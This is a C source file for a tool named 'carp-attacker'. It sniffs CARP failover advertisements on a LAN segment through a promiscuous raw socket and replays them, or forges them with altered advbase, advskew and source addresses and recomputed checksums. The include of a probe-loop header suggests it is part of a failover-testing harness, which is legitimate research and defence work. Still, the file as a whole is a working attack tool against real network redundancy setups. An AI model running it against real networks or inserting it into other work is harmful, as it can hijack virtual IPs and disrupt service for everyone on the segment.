// Somebody on the segment who knows no password: hears CARP frames and sends them again, as they
// were or with the fields changed that the digest does not cover (advbase, advskew, source
// address).
//
//   carp-attacker DEVICE
//
// Frames leave with the attacker's own MAC: receivers do not look at it, and the virtual one would
// turn the switch against the VIP, which is another attack.
//
// Commands on standard input:
//   hold                         keep the frames heard last, one for each VHID and family
//   hear                         go on keeping the newest
//   replay INTERVAL_US           send what is kept, as it was, at this pace
//   forge BASE SKEW V4 V6 INTERVAL_US
//                                send what is kept with these fields; an address of "-" stays
//   stop                         send nothing more
//   report                       counts
#include "probe-loop.h"
#include <arpa/inet.h>
#include <linux/filter.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#ifndef PACKET_IGNORE_OUTGOING
#define PACKET_IGNORE_OUTGOING 23
#endif

enum { MOST = 16, CARP = 36 };

typedef struct {
  unsigned char bytes[128];
  size_t length;
} Frame;

static int sock;
static unsigned char own_mac[6];
static Frame kept[MOST];
static size_t count;
static int holding, forging;
static int64_t interval_us, due;
static int base, skew;
static char source4[46], source6[46];
static unsigned long captured, sent, failed;

// Protocol 112 over IPv4 or IPv6; else nothing.
static struct sock_filter wanted[] = {
    BPF_STMT(BPF_LD | BPF_H | BPF_ABS, 12),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, ETHERTYPE_IP, 0, 2),
    BPF_STMT(BPF_LD | BPF_B | BPF_ABS, 23),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 112, 3, 4),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, ETHERTYPE_IPV6, 0, 3),
    BPF_STMT(BPF_LD | BPF_B | BPF_ABS, 20),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 112, 0, 1),
    BPF_STMT(BPF_RET | BPF_K, 128),
    BPF_STMT(BPF_RET | BPF_K, 0),
};

static int is_v6(const unsigned char *frame) { return frame[12] == 0x86; }

static size_t carp_at(const unsigned char *frame) {
  return is_v6(frame) ? 54 : 14 + (size_t)(frame[14] & 15) * 4;
}

static void set_checksum(unsigned char *field, const unsigned char *from, size_t bytes) {
  uint32_t sum = 0;
  field[0] = field[1] = 0;
  for (size_t i = 0; i + 1 < bytes; i += 2) sum += (uint32_t)from[i] << 8 | from[i + 1];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  field[0] = (unsigned char)(~sum >> 8);
  field[1] = (unsigned char)~sum;
}

static void keep(const unsigned char *frame, size_t length) {
  size_t at = carp_at(frame), i = 0;
  if (length < at + CARP || frame[at] != 0x21) return;
  while (i < count && !(kept[i].bytes[12] == frame[12] &&
                        kept[i].bytes[carp_at(kept[i].bytes) + 1] == frame[at + 1]))
    i++;
  if (i == MOST) return;
  if (i == count) count++;
  memcpy(kept[i].bytes, frame, length);
  kept[i].length = length;
  captured++;
}

static void receive(void) {
  unsigned char frame[128];
  ssize_t bytes;
  while ((bytes = recv(sock, frame, sizeof frame, MSG_DONTWAIT)) > 0)
    if (!holding) keep(frame, (size_t)bytes);
}

static void rewrite(unsigned char *frame) {
  unsigned char *carp = frame + carp_at(frame);
  carp[2] = (unsigned char)skew;
  carp[5] = (unsigned char)base;
  set_checksum(carp + 6, carp, CARP);
  if (is_v6(frame)) {
    if (source6[0] != '-') inet_pton(AF_INET6, source6, frame + 22);
  } else if (source4[0] != '-') {
    inet_pton(AF_INET, source4, frame + 26);
    set_checksum(frame + 24, frame + 14, carp_at(frame) - 14);
  }
}

static void send_kept(void) {
  for (size_t i = 0; i < count; i++) {
    Frame frame = kept[i];
    memcpy(frame.bytes + 6, own_mac, 6);
    if (forging) rewrite(frame.bytes);
    if (send(sock, frame.bytes, frame.length, MSG_DONTWAIT) < 0) failed++;
    else sent++;
  }
}

static void begin(int forges, int64_t pace_us) {
  forging = forges;
  interval_us = pace_us;
  due = monotonic_us();
}

static void run_command(const char *line) {
  long long pace;
  if (!strcmp(line, "hold")) holding = 1;
  else if (!strcmp(line, "hear")) holding = 0;
  else if (!strcmp(line, "stop")) interval_us = 0;
  else if (sscanf(line, "replay %lld", &pace) == 1) begin(0, pace);
  else if (sscanf(line, "forge %d %d %45s %45s %lld", &base, &skew, source4, source6, &pace) == 5)
    begin(1, pace);
  else if (!strcmp(line, "report")) {
    printf("{\"event\":\"report\",\"t\":%lld,\"captured\":%lu,\"kept\":%zu,\"sent\":%lu,"
           "\"failed\":%lu}\n", (long long)monotonic_us(), captured, count, sent, failed);
    fflush(stdout);
  }
}

static void loop(void) {
  struct pollfd fds[2] = {{.fd = 0, .events = POLLIN}, {.fd = sock, .events = POLLIN}};
  say_ready();
  for (;;) {
    int64_t now = monotonic_us();
    if (interval_us && now >= due) {
      send_kept();
      due += interval_us * ((now - due) / interval_us + 1);
    }
    int64_t wait_us = due > now ? due - now : 0;
    struct timespec wait = {.tv_sec = wait_us / 1000000, .tv_nsec = wait_us % 1000000 * 1000};
    ppoll(fds, 2, interval_us ? &wait : NULL, NULL);
    if (fds[1].revents) receive();
    if (fds[0].revents) read_commands(run_command);
  }
}

int main(int argc, char **argv) {
  struct ifreq request = {0};
  int one = 1;
  if (argc != 2) return 2;
  sock = socket(AF_PACKET, SOCK_RAW, 0);
  if (sock < 0) die("packet socket");
  struct sock_fprog program = {.len = sizeof wanted / sizeof *wanted, .filter = wanted};
  if (setsockopt(sock, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program)) die("filter");
  setsockopt(sock, SOL_PACKET, PACKET_IGNORE_OUTGOING, &one, sizeof one);
  snprintf(request.ifr_name, sizeof request.ifr_name, "%s", argv[1]);
  if (ioctl(sock, SIOCGIFHWADDR, &request)) die(argv[1]);
  memcpy(own_mac, request.ifr_hwaddr.sa_data, 6);
  struct sockaddr_ll here = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL),
                             .sll_ifindex = (int)if_nametoindex(argv[1])};
  if (bind(sock, (void *)&here, sizeof here)) die("bind");
  struct packet_mreq all = {.mr_ifindex = here.sll_ifindex, .mr_type = PACKET_MR_PROMISC};
  if (setsockopt(sock, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &all, sizeof all)) die("promiscuous");
  loop();
}
